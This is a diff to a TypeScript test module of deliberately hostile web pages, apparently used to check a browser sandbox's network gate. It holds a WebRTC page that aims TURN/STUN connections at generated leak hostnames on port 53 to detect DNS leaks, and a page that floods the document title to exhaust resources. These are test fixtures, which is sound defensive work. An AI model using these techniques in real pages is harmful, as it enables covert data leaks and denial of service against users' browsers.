@@ -35,8 +35,9 @@ export const hostilePages: Readonly<Record<string, (n: number, closed: Closed) =
     document(
       `setInterval(() => { for (let n = 0; n < 9000; n++) document.title = n + 'x'.repeat(4000) }); ${inWorker(fill)}`,
     ),
+  // By a port that the gate refuses before it looks a name up: whoever is asked for it was asked by the browser.
   names: (n) =>
-    document(`for (const url of ['turn:${leak(n)}:3478?transport=tcp', 'turns:${leak(n)}:5349?transport=tcp', 'stun:${leak(n)}:3478']) {
+    document(`for (const url of ['turn:${leak(n)}:53?transport=tcp', 'turns:${leak(n)}:53?transport=tcp', 'stun:${leak(n)}:53']) {
       const peer = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'a', credential: 'b' }] });
       peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
     }`),
